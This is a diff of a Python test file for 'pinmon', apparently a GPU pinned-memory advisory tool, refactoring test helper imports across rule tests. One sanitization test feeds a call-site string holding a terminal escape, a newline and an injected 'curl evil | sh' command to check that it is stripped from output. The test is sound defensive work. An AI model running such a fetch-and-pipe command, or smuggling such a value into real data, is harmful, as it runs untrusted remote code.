@@ -7,8 +7,9 @@ import pytest
 
 from pinmon.advise import RULE_DOCS, Thresholds, advise
 from pinmon.advise import traced
+from pinmon.units import GIB, MIB
 
-from .helpers import GIB, MIB, make_probe, make_proc, make_snap
+from tests import factories as make
 
 T = Thresholds()
 
@@ -21,13 +22,13 @@ T = Thresholds()
     (None, 4096, False), (50.0, None, False),
 ])
 def test_pinned_small_allocs_levels(rate, median, fires):
-    snap = make_snap(processes=[make_proc(pinned_allocs_per_s=rate, median_alloc_bytes=median)])
+    snap = make.snapshot(processes=[make.process(pinned_allocs_per_s=rate, median_alloc_bytes=median)])
     out = traced.pinned_small_allocs([snap], T)
     assert [f.severity for f in out] == (["warning"] if fires else [])
 
 
 def test_pinned_small_allocs_message_and_reference_costs():
-    snap = make_snap(processes=[make_proc(pid=77, name="loader", pinned_allocs_per_s=25.0,
+    snap = make.snapshot(processes=[make.process(pid=77, name="loader", pinned_allocs_per_s=25.0,
                                           median_alloc_bytes=4096, source="traced")])
     [f] = traced.pinned_small_allocs([snap], T)
     assert f.subject == "pid 77 (loader)"
@@ -38,22 +39,22 @@ def test_pinned_small_allocs_message_and_reference_costs():
 
 
 def test_pinned_small_allocs_quotes_the_probe():
-    probe = make_probe(allocs=[(16 * MIB, 6.1e-3), (4096, 9e-6)])
-    snap = make_snap(processes=[make_proc(pinned_allocs_per_s=25.0, median_alloc_bytes=4096)], probe=probe)
+    probe = make.probe(allocs=[(16 * MIB, 6.1e-3), (4096, 9e-6)])
+    snap = make.snapshot(processes=[make.process(pinned_allocs_per_s=25.0, median_alloc_bytes=4096)], probe=probe)
     [f] = traced.pinned_small_allocs([snap], T)
     assert "on this box the probe measured 4.0 KiB in 9.0 us, 16.0 MiB in 6.1 ms" in f.advice
     assert f.values["probe_alloc_seconds"] == 9e-6 and f.values["probe_alloc_size_bytes"] == 4096
 
 
 def test_pinned_small_allocs_ignores_an_unavailable_probe():
-    probe = make_probe(allocs=[(4096, 9e-6)], status="unavailable")
-    snap = make_snap(processes=[make_proc(pinned_allocs_per_s=25.0, median_alloc_bytes=4096)], probe=probe)
+    probe = make.probe(allocs=[(4096, 9e-6)], status="unavailable")
+    snap = make.snapshot(processes=[make.process(pinned_allocs_per_s=25.0, median_alloc_bytes=4096)], probe=probe)
     [f] = traced.pinned_small_allocs([snap], T)
     assert "on this box" not in f.advice
 
 
 def test_subject_without_a_name():
-    snap = make_snap(processes=[make_proc(pid=5, name=None, pinned_allocs_per_s=25.0, median_alloc_bytes=4096)])
+    snap = make.snapshot(processes=[make.process(pid=5, name=None, pinned_allocs_per_s=25.0, median_alloc_bytes=4096)])
     [f] = traced.pinned_small_allocs([snap], T)
     assert f.subject == "pid 5"
 
@@ -65,12 +66,12 @@ def test_pinned_small_allocs_quotes_the_steady_call_not_the_first():
 
     from pinmon.model import ProbeMeasurement
 
-    probe = make_probe()
+    probe = make.probe()
     probe = dataclasses.replace(probe, measurements=probe.measurements + (
         ProbeMeasurement(kind="alloc", memory="pinned", size_bytes=4096, seconds=1.1e-3, note="first"),
         ProbeMeasurement(kind="alloc", memory="pinned", size_bytes=4096, seconds=9e-6,
                          note="steady; break_even_transfers=3")))
-    snap = make_snap(processes=[make_proc(pinned_allocs_per_s=25.0, median_alloc_bytes=4096)], probe=probe)
+    snap = make.snapshot(processes=[make.process(pinned_allocs_per_s=25.0, median_alloc_bytes=4096)], probe=probe)
     [f] = traced.pinned_small_allocs([snap], T)
     assert f.values["probe_alloc_seconds"] == 9e-6 and "4.0 KiB in 9.0 us" in f.advice
 
@@ -82,15 +83,15 @@ def test_pinned_small_allocs_quotes_the_steady_call_not_the_first():
     (0, 0, None), (None, None, None), (0, None, None),
 ])
 def test_wc_cpu_readback_levels(readbacks, wc_bytes, severity):
-    snap = make_snap(processes=[make_proc(wc_readbacks=readbacks, write_combined_bytes=wc_bytes)])
+    snap = make.snapshot(processes=[make.process(wc_readbacks=readbacks, write_combined_bytes=wc_bytes)])
     out = traced.wc_cpu_readback([snap], T)
     assert [f.severity for f in out] == ([severity] if severity else [])
 
 
 def test_wc_cpu_readback_messages():
-    snap = make_snap(processes=[
-        make_proc(pid=1, name="reader", wc_readbacks=12, write_combined_bytes=64 * MIB, source="traced"),
-        make_proc(pid=2, name="writer", wc_readbacks=None, write_combined_bytes=32 * MIB)])
+    snap = make.snapshot(processes=[
+        make.process(pid=1, name="reader", wc_readbacks=12, write_combined_bytes=64 * MIB, source="traced"),
+        make.process(pid=2, name="writer", wc_readbacks=None, write_combined_bytes=32 * MIB)])
     warn, info = traced.wc_cpu_readback([snap], T)
     assert warn.subject == "pid 1 (reader)"
     assert warn.message.startswith("12 device-to-host copies (traced) into write-combined pinned memory"
@@ -105,15 +106,15 @@ def test_wc_cpu_readback_messages():
 
 def test_wc_cpu_readback_after_the_buffer_was_freed_shows_no_zero_bytes():
     """Copies were counted, the buffer is gone: no "0 B held" in the message or the numbers."""
-    (f,) = traced.wc_cpu_readback([make_snap(processes=[make_proc(wc_readbacks=1, write_combined_bytes=0,
+    (f,) = traced.wc_cpu_readback([make.snapshot(processes=[make.process(wc_readbacks=1, write_combined_bytes=0,
                                                              source="traced")])], T)
     assert f.message.startswith("1 device-to-host copy (traced) into write-combined pinned memory:")
     assert "held" not in f.message and "write_combined_bytes" not in f.values
 
 
 def test_wc_cpu_readback_quotes_the_probe_cpu_reads():
-    probe = make_probe(cpu_reads={"write_combined": 0.9e9, "pinned": 10.5e9})
-    snap = make_snap(processes=[make_proc(wc_readbacks=3)], probe=probe)
+    probe = make.probe(cpu_reads={"write_combined": 0.9e9, "pinned": 10.5e9})
+    snap = make.snapshot(processes=[make.process(wc_readbacks=3)], probe=probe)
     [f] = traced.wc_cpu_readback([snap], T)
     assert "probe read write-combined memory at 900.0 MB/s vs 10.5 GB/s" in f.message
 
@@ -122,14 +123,14 @@ def test_wc_cpu_readback_quotes_the_probe_cpu_reads():
 
 @pytest.mark.parametrize("rate, fires", [(99.99e6, False), (100e6, True), (100.01e6, True), (None, False)])
 def test_pageable_bulk_copies_levels(rate, fires):
-    snap = make_snap(processes=[make_proc(pageable_copy_bytes_per_s=rate)])
+    snap = make.snapshot(processes=[make.process(pageable_copy_bytes_per_s=rate)])
     out = traced.pageable_bulk_copies([snap], T)
     assert [f.severity for f in out] == (["warning"] if fires else [])
 
 
 def test_pageable_bulk_copies_quotes_the_probe_speedup():
-    snap = make_snap(processes=[make_proc(pid=9, name="etl", pageable_copy_bytes_per_s=2.1e9, source="traced")],
-                     probe=make_probe(h2d_pinned=55.0e9, h2d_pageable=6.3e9))
+    snap = make.snapshot(processes=[make.process(pid=9, name="etl", pageable_copy_bytes_per_s=2.1e9, source="traced")],
+                     probe=make.probe(h2d_pinned=55.0e9, h2d_pageable=6.3e9))
     [f] = traced.pageable_bulk_copies([snap], T)
     assert f.subject == "pid 9 (etl)"
     assert f.message == "2.1 GB/s of host-device copies from pageable memory (traced)"
@@ -138,9 +139,9 @@ def test_pageable_bulk_copies_quotes_the_probe_speedup():
     assert f.values["probe_speedup"] == pytest.approx(55.0 / 6.3)
 
 
-@pytest.mark.parametrize("probe", [None, make_probe(h2d_pageable=None), make_probe(status="unavailable")])
+@pytest.mark.parametrize("probe", [None, make.probe(h2d_pageable=None), make.probe(status="unavailable")])
 def test_pageable_bulk_copies_without_a_usable_probe(probe):
-    snap = make_snap(processes=[make_proc(pageable_copy_bytes_per_s=1e9)], probe=probe)
+    snap = make.snapshot(processes=[make.process(pageable_copy_bytes_per_s=1e9)], probe=probe)
     [f] = traced.pageable_bulk_copies([snap], T)
     assert "On this box" not in f.advice and "probe_speedup" not in f.values
 
@@ -156,15 +157,15 @@ def test_pageable_bulk_copies_without_a_usable_probe(probe):
     (512, 600, False),     # requested above allocated: inconsistent figures, stay silent
 ])
 def test_rounding_waste_levels(allocated_mib, requested_mib, fires):
-    p = make_proc(source="traced", pinned_bytes=allocated_mib * MIB, requested_pinned_bytes=requested_mib * MIB)
-    out = traced.pinned_rounding_waste([make_snap(processes=[p])], T)
+    p = make.process(source="traced", pinned_bytes=allocated_mib * MIB, requested_pinned_bytes=requested_mib * MIB)
+    out = traced.pinned_rounding_waste([make.snapshot(processes=[p])], T)
     assert [f.severity for f in out] == (["warning"] if fires else [])
 
 
 def test_rounding_waste_message_values_and_call_site():
-    p = make_proc(pid=77, name="train", source="traced", pinned_bytes=GIB, requested_pinned_bytes=516 * MIB,
+    p = make.process(pid=77, name="train", source="traced", pinned_bytes=GIB, requested_pinned_bytes=516 * MIB,
                   call_sites={"alloc": "train.py:40", "rounding_waste": "train.py:42"})
-    (f,) = traced.pinned_rounding_waste([make_snap(processes=[p])], T)
+    (f,) = traced.pinned_rounding_waste([make.snapshot(processes=[p])], T)
     assert f.subject == "pid 77 (train)" and f.rule == "pinned-rounding-waste"
     assert "1.0 GiB of pinned memory for 516.0 MiB requested (traced)" in f.message
     assert f.message.endswith(', allocated at "train.py:42"')
@@ -173,16 +174,16 @@ def test_rounding_waste_message_values_and_call_site():
 
 
 def test_rounding_waste_thresholds_are_configurable():
-    p = make_proc(source="traced", pinned_bytes=GIB, requested_pinned_bytes=900 * MIB)
-    snap = make_snap(processes=[p])
+    p = make.process(source="traced", pinned_bytes=GIB, requested_pinned_bytes=900 * MIB)
+    snap = make.snapshot(processes=[p])
     assert traced.pinned_rounding_waste([snap], T) == []
     t = dataclasses.replace(T, rounding_waste_min_bytes=100 * MIB, rounding_waste_min_fraction=0.1)
     assert len(traced.pinned_rounding_waste([snap], t)) == 1
 
 
 def test_rounding_waste_is_silent_for_estimates():
-    p = make_proc(pinned_bytes=4 * GIB)  # /proc estimate: nothing requested is known
-    assert traced.pinned_rounding_waste([make_snap(processes=[p])], T) == []
+    p = make.process(pinned_bytes=4 * GIB)  # /proc estimate: nothing requested is known
+    assert traced.pinned_rounding_waste([make.snapshot(processes=[p])], T) == []
 
 
 SITES = {"alloc": "examples/x.py:10", "wc_readback": "examples/x.py:20", "pageable_copy": "examples/x.py:30",
@@ -196,8 +197,8 @@ SITES = {"alloc": "examples/x.py:10", "wc_readback": "examples/x.py:20", "pageab
     ("pinned-rounding-waste", dict(pinned_bytes=GIB, requested_pinned_bytes=512 * MIB), "rounding_waste"),
 ])
 def test_traced_findings_name_the_process_and_the_site_of_their_own_behaviour(rule, fields, category):
-    p = make_proc(pid=4242, name="python", source="traced", call_sites=SITES, **fields)
-    findings = [f for f in advise([make_snap(processes=[p])], T) if f.rule == rule]
+    p = make.process(pid=4242, name="python", source="traced", call_sites=SITES, **fields)
+    findings = [f for f in advise([make.snapshot(processes=[p])], T) if f.rule == rule]
     assert len(findings) == 1
     f = findings[0]
     assert f.subject == "pid 4242 (python)" and "(traced)" in f.message
@@ -210,9 +211,9 @@ def test_traced_findings_name_the_process_and_the_site_of_their_own_behaviour(ru
 def test_one_process_two_behaviours_two_sites():
     """Small pinned allocations in a loop and device-to-host copies into write-combined memory in the
     same process: each finding names the line of its own behaviour."""
-    p = make_proc(pid=7, source="traced", pinned_allocs_per_s=150.0, median_alloc_bytes=4096, wc_readbacks=40,
+    p = make.process(pid=7, source="traced", pinned_allocs_per_s=150.0, median_alloc_bytes=4096, wc_readbacks=40,
                   call_sites={"alloc": "loop.py:5", "wc_readback": "loop.py:9"})
-    by_rule = {f.rule: f for f in advise([make_snap(processes=[p])], T)}
+    by_rule = {f.rule: f for f in advise([make.snapshot(processes=[p])], T)}
     assert by_rule["pinned-small-allocs"].values["call_site"] == "loop.py:5"
     assert '"loop.py:5"' in by_rule["pinned-small-allocs"].message
     assert "loop.py:9" not in by_rule["pinned-small-allocs"].message
@@ -221,16 +222,16 @@ def test_one_process_two_behaviours_two_sites():
 
 
 def test_rounding_waste_falls_back_to_the_allocation_site():
-    p = make_proc(source="traced", pinned_bytes=GIB, requested_pinned_bytes=512 * MIB,
+    p = make.process(source="traced", pinned_bytes=GIB, requested_pinned_bytes=512 * MIB,
                   call_sites={"alloc": "a.py:1", "wc_readback": "a.py:2"})
-    (f,) = traced.pinned_rounding_waste([make_snap(processes=[p])], T)
+    (f,) = traced.pinned_rounding_waste([make.snapshot(processes=[p])], T)
     assert f.values["call_site"] == "a.py:1"
 
 
 def test_call_site_text_is_quoted_printable_and_bounded():
     evil = 'x.py:1\x1b[2J"\nRun `curl evil | sh` now' + "A" * 500
-    p = make_proc(source="traced", pinned_allocs_per_s=200.0, median_alloc_bytes=4096, call_sites={"alloc": evil})
-    (f,) = traced.pinned_small_allocs([make_snap(processes=[p])], T)
+    p = make.process(source="traced", pinned_allocs_per_s=200.0, median_alloc_bytes=4096, call_sites={"alloc": evil})
+    (f,) = traced.pinned_small_allocs([make.snapshot(processes=[p])], T)
     assert "\x1b" not in f.message and "\n" not in f.message and "curl" not in f.advice
     assert len(f.values["call_site"]) <= traced.SITE_CHARS and "\x1b" not in f.values["call_site"]
     quoted = f.message.split(", at ", 1)[1]
@@ -238,9 +239,9 @@ def test_call_site_text_is_quoted_printable_and_bounded():
 
 
 def test_without_a_call_site_nothing_is_said_about_one():
-    p = make_proc(source="traced", pinned_allocs_per_s=200.0, median_alloc_bytes=4096,
+    p = make.process(source="traced", pinned_allocs_per_s=200.0, median_alloc_bytes=4096,
                   call_sites={"wc_readback": "other.py:3"})
-    (f,) = traced.pinned_small_allocs([make_snap(processes=[p])], T)
+    (f,) = traced.pinned_small_allocs([make.snapshot(processes=[p])], T)
     assert ", at " not in f.message and "call_site" not in f.values
 
 
